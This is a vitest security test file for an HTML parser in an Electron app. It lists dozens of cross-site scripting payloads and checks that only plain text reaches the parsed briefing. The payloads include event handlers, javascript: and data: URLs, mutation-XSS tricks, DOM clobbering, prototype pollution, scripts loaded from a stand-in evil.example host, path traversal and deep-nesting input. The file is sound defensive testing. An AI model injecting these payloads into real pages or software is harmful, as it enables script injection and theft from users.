import { describe, expect, test } from 'vitest';
import { parseHtml } from '../../../../../electron/library/formats/html/parse-html.ts';
import {
  fileOf,
  linkedTexts,
  parsed,
  stringsOf,
  textsOf,
} from '../../../../support/formats/parsed.ts';

/** A page's part that attacks who shows it, and all the text that it may leave. */
const payloads: readonly (readonly [payload: string, ...texts: string[]])[] = [
  ['<img src=x onerror=alert(1)>'],
  ['<img src="javascript:alert(1)" alt="">'],
  ['<image href=x onerror=alert(1)>'],
  ['<script>alert(1)</script>'],
  ['<script src=//evil.example/x.js></script>'],
  ['<scr<script>ipt>alert(1)</script>', 'ipt>alert(1)'],
  ['<svg onload=alert(1)><text>drawn</text></svg>'],
  ['<svg><style><img src=x onerror=alert(1)></style></svg>'],
  ['<svg><a xlink:href="javascript:alert(1)"><text>drawn</text></a></svg>'],
  ['<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>'],
  [
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>',
  ],
  ['<math href="javascript:alert(1)"><mi>x</mi></math>', 'x'],
  ['<iframe src="javascript:alert(1)"></iframe>'],
  ['<iframe srcdoc="<script>alert(1)</script>">inside</iframe>'],
  ['<embed src="javascript:alert(1)">'],
  ['<object data="javascript:alert(1)">inside</object>'],
  ['<applet code=x>inside</applet>'],
  ['<details open ontoggle=alert(1)><summary>more</summary></details>', 'more'],
  ['<base href="javascript:alert(1)//">'],
  ['<meta http-equiv=refresh content="0;url=javascript:alert(1)">'],
  ['<link rel=stylesheet href=//evil.example/x.css>'],
  ['<style>@import "//evil.example/x.css"; p { background: url(javascript:alert(1)) }</style>'],
  ['<p style="background:url(javascript:alert(1))">styled</p>', 'styled'],
  [
    '<form id=x action="javascript:alert(1)"><input name=attributes><input name=nodeType value=v><input name=firstChild><button>go</button></form>',
  ],
  ['<form><input name=parentNode><input name=getAttribute><p>in a form</p></form>', 'in a form'],
  ['<a id=x></a><a id=x name=y href="clobber:1">named</a>', 'named'],
  ['<template><img src=x onerror=alert(1)>inside</template>'],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">inside</noscript>'],
  ['<textarea><img src=x onerror=alert(1)></textarea>'],
  ['<select><option>one</option></select>'],
  ['<video><source onerror=alert(1)>inside</video>'],
  ['<audio src=x onerror=alert(1)>inside</audio>'],
  ['<marquee onstart=alert(1)>moving</marquee>', 'moving'],
  [
    '<div hidden>hidden</div><div aria-hidden=true>hidden</div><div style="DISPLAY : none">hidden</div>',
  ],
  ['<dialog>closed</dialog><dialog open>opened</dialog>', 'opened'],
  ['<__proto__>words</__proto__>', '<__proto__>words'],
  ['<p __proto__=x constructor=y toString=z>words</p>', 'words'],
  ['<constructor>words</constructor>', 'words'],
  ['<!-- <img src=x onerror=alert(1)> -->'],
  ['<!--><img src=x onerror=alert(1)>-->', '-->'],
  ['<p>&lt;img src=x onerror=alert(1)&gt;</p>', '<img src=x onerror=alert(1)>'],
  ['<xmp><p id="</xmp><img src=x onerror=alert(1)>"></xmp>', '<p id="', '">'],
  ['<img alt="<script>alert(1)</script>" src="https://evil.example/pixel.png" width=1>'],
];

describe('a page that attacks who shows it', () => {
  test.each(payloads)('%s', async (payload, ...expected) => {
    const html = `<title>Title</title><p>before</p>${payload}<p>after</p>`;
    const briefing = await parsed(parseHtml(fileOf(html, 'page.html')));
    expect(textsOf(briefing)).toEqual(['Title', 'before', ...expected, 'after']);
    for (const { caption, picture } of briefing.figures) {
      expect(caption).toBeNull();
      expect(picture).toMatch(/^\.\/[x1]$/);
    }
    expect(briefing.source).toBeNull();
  });

  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    '//evil.example/',
    'https://example.org/?a=1&b=2',
  ])('a link to %s is data', async (target) => {
    const href = target.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
    const html = `<title>Title</title><p>before <a href="${href}" onclick="alert(2)">words</a> after</p>`;
    const briefing = await parsed(parseHtml(fileOf(html, 'page.html')));
    expect(textsOf(briefing)).toEqual(['Title', 'before words after']);
    expect(linkedTexts(briefing)).toEqual([{ words: 'words', target }]);
  });

  test.each([
    'https://evil.example/a.png',
    '//evil.example/a.png',
    '/etc/a.png',
    '../a.png',
    'a/../../a.png',
    '%2e%2e/a.png',
    'a/%2e%2e/%2e%2e/a.png',
    String.raw`..\a.png`,
    String.raw`C:\a.png`,
    'C:/a.png',
    'file:///etc/a.png',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'data:text/html;base64,PHNjcmlwdD4=',
    'blob:x',
    'cid:x',
    'embedded:0',
  ])('a picture at %s is not followed', async (src) => {
    const html = `<title>Title</title><p>before</p><img alt="what it shows" src="${src}">`;
    const { figures } = await parsed(parseHtml(fileOf(html, 'page.html')));
    expect(figures.map(({ caption, picture }) => [caption, picture])).toEqual([
      ['what it shows', null],
    ]);
  });

  test('what search engines are told is text', async () => {
    const data = JSON.stringify({
      '@type': 'Article',
      headline: '<img src=x onerror=alert(1)>',
      author: { name: '<b>Jane</b>' },
      publisher: [{ name: 'Daily' }],
    }).replace('{', '{"__proto__":{"isPolluted":true},');
    const html = `<script type="application/ld+json">${data}</script><p>words</p>`;
    const briefing = await parsed(parseHtml(fileOf(html, 'page.html')));
    expect(briefing.headline).toBe('<img src=x onerror=alert(1)>');
    expect(briefing.furniture).toEqual(['<b>Jane</b>']);
    expect(briefing.source).toBe('Daily');
    expect('isPolluted' in {}).toBe(false);
  });

  test.each([
    'div',
    'blockquote',
    'ul',
    'ul><li',
    'table><tr><td',
    'a href=x',
    'b',
    'span',
    'figure',
    'h2',
    'pre',
    'svg',
    'nav',
  ])('10,000 of <%s> inside of each other leave the words', async (tags) => {
    const html = `<title>Title</title><script>1</script>${`<${tags}>`.repeat(10_000)}deep words`;
    const briefing = await parsed(parseHtml(fileOf(html, 'page.html')));
    const words = tags === 'svg' ? [] : ['deep words'];
    expect(textsOf(briefing)).toEqual(['Title', ...words]);
  });

  test('nothing of an article’s page but its words gets into the briefing', async () => {
    const sentence = 'Delegations met in the city, for a long time, and agreed on things.';
    const attacks = payloads
      .map(([payload]) => payload)
      // What these leave looks like tags, and is text; the last holds all that comes after it.
      .filter((payload) => !/&lt;|<__proto__|<xmp|<image/.test(payload));
    const paragraphs = attacks.map((payload) => `<p>${`${sentence} `.repeat(3)}</p>${payload}`);
    const html = `<title>Title</title><nav>menu</nav><article>${paragraphs.join('\n')}</article>`;
    const briefing = await parsed(parseHtml(fileOf(html, 'page.html')));
    expect(textsOf(briefing).join(' ').split(sentence)).toHaveLength(attacks.length * 3 + 1);
    expect(textsOf(briefing)).not.toContain('menu');
    for (const text of stringsOf(briefing)) expect(text).not.toMatch(/<\w|onerror|url\(/);
  });
});
